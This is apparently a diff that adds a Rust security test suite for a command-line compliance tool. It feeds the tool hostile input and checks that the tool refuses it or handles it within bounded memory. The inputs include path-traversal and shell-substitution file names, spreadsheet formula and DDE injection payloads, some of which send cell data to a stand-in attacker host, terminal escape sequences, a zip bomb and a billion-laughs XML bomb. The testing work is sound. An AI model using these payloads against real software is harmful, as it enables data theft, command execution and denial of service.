@@ -1,0 +1,695 @@
+//! Hostile input given to the built `scal`: names that try to climb out of a folder, text that
+//! tries to become a formula or drive a terminal, very large and very deep inputs, and archives
+//! built to explode. Each must end in a clear refusal (exit 2, one line) or a bounded result,
+//! never a crash, a hang or memory in proportion to what the attacker claims.
+//!
+//! Memory is bounded by running `scal` under `ulimit -v`: a run that tried to hold an
+//! exploded archive in memory would abort there, which these tests report as a failure.
+
+use std::io::{Read as _, Write as _};
+use std::path::Path;
+use std::process::Command;
+
+use super::faults::Rng;
+use super::*;
+
+/// Address space allowed to `scal` in these tests: far above what it needs (about 300 MiB for
+/// the largest input here), far below what an exploded archive would take.
+const MEMORY_LIMIT_KIB: u64 = 2 * 1024 * 1024;
+
+/// Runs `scal ARGS` with its address space capped at `MEMORY_LIMIT_KIB`.
+fn scal_bounded(args: &[String]) -> Run {
+    let out = Command::new("sh")
+        .arg("-c")
+        .arg(format!(
+            "ulimit -v {MEMORY_LIMIT_KIB} && exec \"$0\" \"$@\""
+        ))
+        .arg(scal_bin())
+        .args(args)
+        .env("SCAL_AUTHOR", AUTHOR)
+        .env_remove("RUST_BACKTRACE")
+        .output()
+        .expect("sh runs");
+    let run = Run {
+        code: out.status.code().unwrap_or(-1),
+        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+    };
+    assert!(
+        !run.stderr.contains("memory allocation") && run.code != -1,
+        "scal {args:?} ran out of its {MEMORY_LIMIT_KIB} KiB or died: {}",
+        run.stderr
+    );
+    run
+}
+
+fn strings(args: &[&str]) -> Vec<String> {
+    args.iter().map(|s| s.to_string()).collect()
+}
+
+/// Every part of a zip file, by name.
+fn zip_parts(path: &Path) -> Vec<(String, Vec<u8>)> {
+    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
+    (0..zip.len())
+        .map(|i| {
+            let mut part = zip.by_index(i).unwrap();
+            let mut bytes = Vec::new();
+            part.read_to_end(&mut bytes).unwrap();
+            (String::from_utf8_lossy(part.name_raw()).into_owned(), bytes)
+        })
+        .collect()
+}
+
+fn answers_file(dir: &Dir, name: &str, rows: Json) -> std::path::PathBuf {
+    dir.file(name, serde_json::json!({ "answers": rows }).to_string())
+}
+
+// ---------------------------------------------------------------------------------------------
+// Names that try to climb out
+
+#[cfg(unix)]
+#[test]
+fn evidence_names_cannot_climb_out_of_the_pack_or_hide_in_it() {
+    let dir = Dir::new();
+    let draft = dir.draft("acme.scal");
+    scal([
+        "answer",
+        &p(&draft),
+        "nhs-services",
+        "UEC Appointment Booking: Consumer",
+    ])
+    .ok();
+    // File names with control characters are refused when attached, with one line.
+    let files = dir.path("files");
+    std::fs::create_dir(&files).unwrap();
+    for name in [
+        "red\u{1b}[31mreport.pdf",
+        "line\nbreak.pdf",
+        "name\u{7}bell.pdf",
+    ] {
+        let path = files.join(name);
+        std::fs::File::create(&path).unwrap();
+        let run = scal(["attach", &p(&draft), "uec-consumer.tcr", &p(&path)]);
+        let line = run.fails_with(&[
+            "cannot be used as an evidence file name",
+            "control characters",
+        ]);
+        assert!(!line.chars().any(char::is_control), "{line:?}");
+    }
+    // File names a Unix disk allows and a Windows unzip, a shell or a terminal would not.
+    let hostile = [
+        "..\\..\\..\\Windows\\System32\\evil.dll",
+        "C:\\evil.pdf",
+        ".hidden-report.pdf",
+        "CON.pdf",
+        "$(touch pwned).pdf",
+        "trailing dots...",
+        "report.pdf",
+        "REPORT.pdf",
+        &format!("{}.pdf", "long".repeat(60)),
+    ];
+    for (n, name) in hostile.iter().enumerate() {
+        let path = files.join(name);
+        let mut f = std::fs::File::create(&path).unwrap();
+        writeln!(f, "evidence number {n}").unwrap();
+        scal(["attach", &p(&draft), "uec-consumer.tcr", &p(&path)]).ok();
+    }
+    let out = dir.path("out");
+    scal(["export", &p(&draft), "--out", &p(&out), "--pack"]).ok();
+    let pack = out.join("acme-pack.zip");
+    scal(["verify-pack", &p(&pack)]).ok();
+
+    let parts = zip_parts(&pack);
+    let evidence: Vec<&String> = parts
+        .iter()
+        .map(|(n, _)| n)
+        .filter(|n| n.starts_with("evidence/"))
+        .collect();
+    assert_eq!(evidence.len(), hostile.len(), "{evidence:?}");
+    let mut lower = std::collections::HashSet::new();
+    for name in &evidence {
+        let file = name.strip_prefix("evidence/").unwrap();
+        assert!(
+            !file.is_empty() && !file.contains(['/', '\\', ':']),
+            "{name:?}"
+        );
+        assert!(!file.starts_with('.') && !file.ends_with('.'), "{name:?}");
+        assert!(!file.chars().any(char::is_control), "{name:?}");
+        assert!(!file.to_ascii_uppercase().starts_with("CON."), "{name:?}");
+        assert!(file.chars().count() <= 130, "{name:?} is too long");
+        assert!(lower.insert(file.to_lowercase()), "{name:?} collides");
+    }
+
+    // Unpacked by a plain reader, everything lands inside the folder it is unpacked into.
+    let unpacked = dir.path("unpacked");
+    zip::ZipArchive::new(std::fs::File::open(&pack).unwrap())
+        .unwrap()
+        .extract(&unpacked)
+        .unwrap();
+    let mut count = 0;
+    let mut stack = vec![unpacked.clone()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).unwrap() {
+            let e = e.unwrap();
+            if e.file_type().unwrap().is_dir() {
+                stack.push(e.path());
+            } else {
+                count += 1;
+            }
+        }
+    }
+    assert_eq!(count, parts.len());
+    let around: Vec<_> = std::fs::read_dir(dir.tmp.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert!(
+        !around.iter().any(|n| n.contains("evil") || n == "Windows"),
+        "something escaped the unpacked folder: {around:?}"
+    );
+}
+
+/// A zip whose entries are given as (name, bytes), stored or deflated.
+fn write_zip(path: &Path, entries: &[(&str, &[u8])]) {
+    let mut zip = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
+    for (name, bytes) in entries {
+        let options = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated)
+            .large_file(bytes.len() > u32::MAX as usize / 2);
+        zip.start_file(*name, options).unwrap();
+        zip.write_all(bytes).unwrap();
+    }
+    zip.finish().unwrap();
+}
+
+fn manifest(files: &[(&str, &str, u64)]) -> Vec<u8> {
+    let files: Vec<Json> = files
+        .iter()
+        .map(|(path, sha, size)| {
+            serde_json::json!({"path": path, "role": "evidence", "sha256": sha, "size": size})
+        })
+        .collect();
+    serde_json::json!({
+        "format": "scal-pack/1",
+        "tool": "hostile",
+        "tool_version": "0",
+        "draft_id": "00000000-0000-4000-8000-000000000000",
+        "exported_at": "2026-06-15T09:00:00Z",
+        "template": {"id": "x", "version": "1.0.0", "title": "X"},
+        "answers_digest": "0",
+        "complete": false,
+        "blocking_issues": 0,
+        "files": files,
+    })
+    .to_string()
+    .into_bytes()
+}
+
+#[test]
+fn a_hostile_pack_is_flagged_entry_by_entry_and_never_unpacked() {
+    let dir = Dir::new();
+    let inside = dir.path("inside");
+    std::fs::create_dir(&inside).unwrap();
+    let pack = inside.join("hostile-pack.zip");
+    // A zip bomb entry: 1 GiB of zeros (about 1 MiB deflated), listed as 10 bytes.
+    let bomb = Bomb::zeros(1 << 30);
+    let listed = manifest(&[
+        ("../../escaped.txt", "00", 1),
+        ("/etc/passwd-copy", "00", 1),
+        ("evidence/..\\..\\x.txt", "00", 1),
+        ("evidence/bomb.bin", &"0".repeat(64), 10),
+    ]);
+    {
+        let mut zip = zip::ZipWriter::new(std::fs::File::create(&pack).unwrap());
+        let deflate = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated);
+        zip.start_file("manifest.json", deflate).unwrap();
+        zip.write_all(&listed).unwrap();
+        for name in [
+            "../../escaped.txt",
+            "/etc/passwd-copy",
+            "evidence/..\\..\\x.txt",
+        ] {
+            zip.start_file(name, deflate).unwrap();
+            zip.write_all(b"x").unwrap();
+        }
+        zip.start_file("evidence/bomb.bin", deflate.large_file(true))
+            .unwrap();
+        bomb.write_to(&mut zip);
+        zip.finish().unwrap();
+    }
+    assert!(
+        std::fs::metadata(&pack).unwrap().len() < 8 << 20,
+        "the bomb is small on disk"
+    );
+    let run = scal_bounded(&strings(&["verify-pack", &p(&pack)]));
+    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
+    for name in [
+        "../../escaped.txt",
+        "/etc/passwd-copy",
+        "evidence/..\\..\\x.txt",
+        "evidence/bomb.bin",
+    ] {
+        assert!(
+            run.stdout.lines().any(|l| l.contains(name)),
+            "{name} is not flagged:\n{}",
+            run.stdout
+        );
+    }
+    assert!(!dir.path("escaped.txt").exists());
+    let names: Vec<_> = std::fs::read_dir(&inside)
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .collect();
+    assert_eq!(
+        names.len(),
+        1,
+        "verify-pack wrote beside the pack: {names:?}"
+    );
+}
+
+/// Highly compressible content written in pieces, so the test itself never holds it.
+struct Bomb {
+    len: u64,
+}
+
+impl Bomb {
+    fn zeros(len: u64) -> Bomb {
+        Bomb { len }
+    }
+
+    fn write_to(&self, w: &mut impl std::io::Write) {
+        let block = vec![0u8; 1 << 20];
+        let mut left = self.len;
+        while left > 0 {
+            let take = left.min(block.len() as u64) as usize;
+            w.write_all(&block[..take]).unwrap();
+            left -= take as u64;
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Text that tries to be more than text
+
+/// Formula and DDE payloads, as a spreadsheet attacker would type them.
+const FORMULAS: [&str; 7] = [
+    "=1+1",
+    "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"Click\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "=IMPORTXML(CONCAT(\"http://attacker.invalid/\",B2),\"//a\")",
+];
+
+#[test]
+fn formula_like_answers_and_comments_stay_text_in_the_workbook() {
+    let dir = Dir::new();
+    let draft = dir.draft("acme.scal");
+    let items = [
+        "supplier-name",
+        "product-name",
+        "cso-name",
+        "medical-device-justification",
+    ];
+    let mut rows = vec![
+        serde_json::json!({"item": "nhs-services", "value": ["UEC Appointment Booking: Consumer"]}),
+        serde_json::json!({"item": "medical-device", "value": "No"}),
+        serde_json::json!({"item": "UEC-CON-001", "value": "No", "comment": FORMULAS[2]}),
+    ];
+    for (i, item) in items.iter().enumerate() {
+        rows.push(
+            serde_json::json!({"item": item, "value": FORMULAS[i], "comment": FORMULAS[i + 3]}),
+        );
+    }
+    let file = answers_file(&dir, "formulas.json", Json::Array(rows));
+    scal(["apply", &p(&draft), &p(&file)]).ok();
+    let out = dir.path("out");
+    scal(["export", &p(&draft), "--out", &p(&out), "--xlsx"]).ok();
+
+    let parts = zip_parts(&out.join("acme.xlsx"));
+    let mut text = String::new();
+    for (name, bytes) in &parts {
+        let xml = String::from_utf8_lossy(bytes);
+        if name.starts_with("xl/worksheets/") {
+            assert!(
+                !xml.contains("<f>") && !xml.contains("<f "),
+                "{name} holds a formula"
+            );
+        }
+        if name.starts_with("xl/") && name.ends_with(".xml") {
+            text.push_str(&xml);
+        }
+    }
+    assert!(
+        !parts.iter().any(|(n, _)| n.contains("externalLink")),
+        "the workbook links to another workbook"
+    );
+    // Each payload is in the workbook, as text (XML-escaped, leading tab kept or trimmed).
+    let escape = |s: &str| {
+        s.replace('&', "&amp;")
+            .replace('<', "&lt;")
+            .replace('>', "&gt;")
+    };
+    for payload in FORMULAS {
+        let trimmed = payload.trim();
+        assert!(
+            text.contains(&escape(trimmed)) || text.contains(trimmed),
+            "{payload:?} is not in the workbook as text"
+        );
+    }
+}
+
+#[test]
+fn control_characters_are_kept_as_data_but_never_reach_the_terminal() {
+    let dir = Dir::new();
+    let draft = dir.draft("acme.scal");
+    let nasty = "Acme\u{1b}]0;owned\u{7}\u{1b}[2J\u{0}\u{9b}31m\r\u{8}Ltd";
+    let file = answers_file(
+        &dir,
+        "control.json",
+        serde_json::json!([{"item": "supplier-name", "value": nasty, "comment": "note\u{1b}[8mhidden"}]),
+    );
+    scal(["apply", &p(&draft), &p(&file)]).ok();
+
+    // As data, the text is kept exactly (JSON escapes it).
+    let show = show_json(&draft);
+    assert_eq!(item(&show, "supplier-name")["value"], nasty);
+    // On a terminal, every control character but line feed and tab is shown, not obeyed.
+    let raw = |s: &str| s.chars().any(|c| c.is_control() && c != '\n' && c != '\t');
+    let text = scal(["show", &p(&draft)]);
+    assert!(!raw(text.ok()), "scal show sent control characters");
+    assert!(text.stdout.contains("Acme\\u{1B}]0;owned\\u{7}"));
+    let bad = answers_file(
+        &dir,
+        "bad.json",
+        serde_json::json!([{"item": "hscn-connection", "value": "Y\u{1b}[2Jes"}]),
+    );
+    let refused = scal(["apply", &p(&draft), &p(&bad)]);
+    let line = refused.fails_with(&["hscn-connection"]);
+    assert!(
+        !raw(line),
+        "an error line sent control characters: {line:?}"
+    );
+    scal(["answer", &p(&draft), "no\u{1b}[2Jitem", "x"]).fails_with(&["no\\u{1B}[2Jitem"]);
+
+    // The exports hold the text too (workbook XML cannot hold raw control characters).
+    let out = dir.path("out");
+    scal(["export", &p(&draft), "--out", &p(&out)]).ok();
+    check_workbook_xml_is_clean(&out.join("acme.xlsx"));
+}
+
+/// XML 1.0 allows no C0 control character but tab, line feed and carriage return (Excel calls
+/// a file holding one corrupt).
+fn check_workbook_xml_is_clean(path: &Path) {
+    for (name, bytes) in zip_parts(path) {
+        let xml = String::from_utf8(bytes).unwrap_or_default();
+        assert!(
+            !xml.chars()
+                .any(|c| c < ' ' && !matches!(c, '\t' | '\n' | '\r')),
+            "{name} holds a raw control character"
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Large and deep
+
+#[test]
+fn a_1_mib_answer_is_taken_and_exported_and_one_character_more_is_refused() {
+    let dir = Dir::new();
+    let draft = dir.draft("acme.scal");
+    let max = 1_048_576;
+    // Long text with multi-byte characters: the limit counts characters, not bytes.
+    let long: String = "Welsh: Gwasanaeth Iechyd Gwladol — "
+        .chars()
+        .cycle()
+        .take(max)
+        .collect();
+    let file = answers_file(
+        &dir,
+        "long.json",
+        serde_json::json!([
+            {"item": "medical-device", "value": "No"},
+            {"item": "medical-device-justification", "value": long, "comment": long}
+        ]),
+    );
+    scal_bounded(&strings(&["apply", &p(&draft), &p(&file)])).ok();
+    let show = show_json(&draft);
+    let stored = item(&show, "medical-device-justification")["value"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert_eq!(stored.chars().count(), long.trim().chars().count());
+
+    let out = dir.path("out");
+    let export = scal_bounded(&strings(&["export", &p(&draft), "--out", &p(&out)]));
+    // Excel holds 32,767 characters in a cell: the workbook says where it cut.
+    assert!(
+        export.ok().contains("warning:") && export.stdout.contains("medical-device-justification"),
+        "no warning for the cut text:\n{}",
+        export.stdout
+    );
+    scal(["verify-pack", &p(&out.join("acme-pack.zip"))]).ok();
+
+    let too_long = format!("{long}x");
+    let file = answers_file(
+        &dir,
+        "too-long.json",
+        serde_json::json!([{"item": "medical-device-justification", "value": too_long}]),
+    );
+    scal_bounded(&strings(&["apply", &p(&draft), &p(&file)]))
+        .fails_with(&["medical-device-justification", "1048576"]);
+    let comment_too_long = answers_file(
+        &dir,
+        "comment-too-long.json",
+        serde_json::json!([{"item": "supplier-name", "comment": too_long}]),
+    );
+    scal_bounded(&strings(&["apply", &p(&draft), &p(&comment_too_long)]))
+        .fails_with(&["supplier-name", "1048576"]);
+}
+
+/// A template with `n` requirement rows in one service section.
+fn huge_template(n: usize) -> String {
+    let items: Vec<Json> = (0..n)
+        .map(|i| {
+            serde_json::json!({
+                "id": format!("R-{i:06}"), "label": format!("Requirement {i}"), "type": "requirement",
+                "level": if i % 3 == 0 { "SHOULD" } else { "MUST" },
+                "text": format!("The system MUST handle case {i} as the standard describes."),
+            })
+        })
+        .collect();
+    serde_json::json!({
+        "id": "huge", "version": "1.0.0", "title": "Huge", "publisher": "hostile",
+        "sections": [{"id": "svc", "title": "Service", "kind": "service", "has_status": true, "items": items}]
+    })
+    .to_string()
+}
+
+#[test]
+fn a_100000_item_template_is_taken_and_checked_in_bounded_memory() {
+    let dir = Dir::new();
+    let template = dir.file("huge.json", huge_template(100_000));
+    let draft = dir.path("huge.scal");
+    scal_bounded(&strings(&["new", &p(&draft), "--template", &p(&template)]))
+        .ok()
+        .contains("100000 items")
+        .then_some(())
+        .expect("new reports the item count");
+    scal_bounded(&strings(&["answer", &p(&draft), "R-099999", "Yes"])).ok();
+    let check = scal_bounded(&strings(&["check", &p(&draft), "--json", "--today", TODAY]));
+    assert_eq!(check.code, 1, "{}", check.stderr);
+    let report: Json = serde_json::from_str(&check.stdout).unwrap();
+    assert_eq!(report["complete"], false);
+}
+
+#[test]
+fn deeply_nested_json_is_refused_with_one_line() {
+    let dir = Dir::new();
+    let deep = |inner: &str| format!("{}{inner}{}", "[".repeat(200_000), "]".repeat(200_000));
+    let template = dir.file("deep-template.json", deep(""));
+    scal(["new", &p(&dir.path("x.scal")), "--template", &p(&template)])
+        .fails_with(&["deep-template.json"]);
+    let nested_in_template = dir.file(
+        "deep-inside.json",
+        format!(
+            r#"{{"id": "x", "version": "1.0.0", "title": "T", "publisher": "P", "sections": {}}}"#,
+            deep("")
+        ),
+    );
+    scal([
+        "new",
+        &p(&dir.path("y.scal")),
+        "--template",
+        &p(&nested_in_template),
+    ])
+    .fails_with(&["deep-inside.json"]);
+    assert!(!dir.path("x.scal").exists() && !dir.path("y.scal").exists());
+
+    let draft = dir.draft("acme.scal");
+    let before = show_json(&draft);
+    let answers = dir.file(
+        "deep-answers.json",
+        format!(
+            r#"{{"answers": [{{"item": "supplier-name", "value": {}}}]}}"#,
+            deep("\"x\"")
+        ),
+    );
+    scal(["apply", &p(&draft), &p(&answers)]).fails_with(&["deep-answers.json", "JSON"]);
+    let objects = dir.file(
+        "deep-objects.json",
+        format!("{}{}", "{\"a\":".repeat(100_000), "}".repeat(100_000)),
+    );
+    scal(["apply", &p(&draft), &p(&objects)]).fails_with(&["deep-objects.json"]);
+    assert_eq!(show_json(&draft), before);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Workbooks built to explode, given to `scal import-template`
+
+/// Whether this `scal` has `import-template` yet (it arrives with the workbook import); the
+/// tests below print a SKIPPED line until it does, and run as soon as it is there.
+fn has_import_template(test: &str) -> bool {
+    let run = scal(["import-template", "--help"]);
+    if run.code == 0 {
+        return true;
+    }
+    eprintln!("SKIPPED {test}: this scal has no import-template command yet");
+    false
+}
+
+/// A minimal xlsx whose sheet is `sheet_xml`; `shared` is the shared-strings part.
+fn xlsx_with(path: &Path, sheet_xml: &[u8], shared: &[u8]) {
+    let content_types = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>"#;
+    let rels = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
+    let workbook = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Supplier &amp; Product information" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
+    let workbook_rels = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>"#;
+    write_zip(
+        path,
+        &[
+            ("[Content_Types].xml", content_types),
+            ("_rels/.rels", rels),
+            ("xl/workbook.xml", workbook),
+            ("xl/_rels/workbook.xml.rels", workbook_rels),
+            ("xl/worksheets/sheet1.xml", sheet_xml),
+            ("xl/sharedStrings.xml", shared),
+        ],
+    );
+}
+
+/// The billion laughs: ten levels of entities, each ten of the one below (10^9 "lol"s).
+fn billion_laughs() -> Vec<u8> {
+    let mut dtd = String::from("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
+    for level in 1..=9 {
+        let below = if level == 1 {
+            "lol".to_string()
+        } else {
+            format!("lol{}", level - 1)
+        };
+        dtd.push_str(&format!(
+            "<!ENTITY lol{level} \"{}\">",
+            format!("&{below};").repeat(10)
+        ));
+    }
+    dtd.push_str("]>");
+    format!(
+        r#"<?xml version="1.0" encoding="UTF-8"?>{dtd}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>"#
+    )
+    .into_bytes()
+}
+
+const ONE_CELL_SHEET: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>"#;
+
+#[test]
+fn a_billion_laughs_workbook_is_refused_in_bounded_memory() {
+    if !has_import_template("billion laughs") {
+        return;
+    }
+    let dir = Dir::new();
+    let book = dir.path("laughs.xlsx");
+    xlsx_with(&book, ONE_CELL_SHEET, &billion_laughs());
+    let run = scal_bounded(&strings(&[
+        "import-template",
+        &p(&book),
+        "--out",
+        &p(&dir.path("t.json")),
+    ]));
+    assert_ne!(run.code, 0, "a billion laughs was imported: {}", run.stdout);
+    run.fails_with(&["laughs.xlsx"]);
+}
+
+#[test]
+fn a_zip_bomb_workbook_is_refused_in_bounded_memory() {
+    if !has_import_template("zip bomb") {
+        return;
+    }
+    let dir = Dir::new();
+    let book = dir.path("bomb.xlsx");
+    // A sheet that inflates to 4 GiB of XML whitespace from a few MiB on disk.
+    {
+        let mut zip = zip::ZipWriter::new(std::fs::File::create(&book).unwrap());
+        let deflate = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated)
+            .large_file(true);
+        zip.start_file("[Content_Types].xml", deflate).unwrap();
+        zip.write_all(br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#).unwrap();
+        zip.start_file("xl/worksheets/sheet1.xml", deflate).unwrap();
+        zip.write_all(br#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#).unwrap();
+        let block = vec![b' '; 1 << 20];
+        for _ in 0..4096 {
+            zip.write_all(&block).unwrap();
+        }
+        zip.write_all(b"</sheetData></worksheet>").unwrap();
+        zip.finish().unwrap();
+    }
+    assert!(std::fs::metadata(&book).unwrap().len() < 16 << 20);
+    let run = scal_bounded(&strings(&[
+        "import-template",
+        &p(&book),
+        "--out",
+        &p(&dir.path("t.json")),
+    ]));
+    run.fails_with(&["bomb.xlsx"]);
+}
+
+/// Random bytes named .xlsx, and a real zip of random parts: refused with one line.
+#[test]
+fn random_bytes_as_a_workbook_are_refused() {
+    if !has_import_template("random workbook") {
+        return;
+    }
+    let dir = Dir::new();
+    let seed = super::faults::seed("random workbook");
+    let mut rng = Rng(seed);
+    let junk: Vec<u8> = (0..50_000).map(|_| rng.next() as u8).collect();
+    let book = dir.file("junk.xlsx", &junk);
+    scal_bounded(&strings(&[
+        "import-template",
+        &p(&book),
+        "--out",
+        &p(&dir.path("t.json")),
+    ]))
+    .fails_with(&["junk.xlsx"]);
+    let parts = dir.path("parts.xlsx");
+    write_zip(
+        &parts,
+        &[
+            ("xl/workbook.xml", &junk[..1000]),
+            ("[Content_Types].xml", &junk[1000..2000]),
+        ],
+    );
+    scal_bounded(&strings(&[
+        "import-template",
+        &p(&parts),
+        "--out",
+        &p(&dir.path("u.json")),
+    ]))
+    .fails_with(&["parts.xlsx"]);
+}
